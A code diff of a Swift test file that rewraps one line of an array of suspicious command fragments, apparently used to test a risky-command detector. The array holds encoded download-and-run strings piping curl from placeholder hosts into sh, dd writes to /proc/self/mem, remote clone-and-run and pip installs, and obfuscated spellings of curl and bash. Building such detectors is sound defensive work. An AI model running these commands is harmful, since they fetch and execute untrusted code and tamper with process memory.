@@ -40,7 +40,8 @@ struct CommandSignsTests {
         "dd of=/proc/self/mem seek=1", "dd of=/proc/$$/mem",
         "IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2gKZWNobyBkb25lCg==", "-a",
         "6375726c20687474703a2f2f782e6578616d706c652f617c7368", "printf", "rev", "openssl enc -d", "cp x", "-pool",
-        "git clone https://x.example/r", "cd r", "./run.sh", "pip install https://x.example/p.tgz", "X=cu;", "Y=rl", "$X$Y", "${X}rl", "b''ash",
+        "git clone https://x.example/r", "cd r", "./run.sh", "pip install https://x.example/p.tgz", "X=cu;", "Y=rl",
+        "$X$Y", "${X}rl", "b''ash",
     ]
 
     @Test("Every function about commands is put to the test")
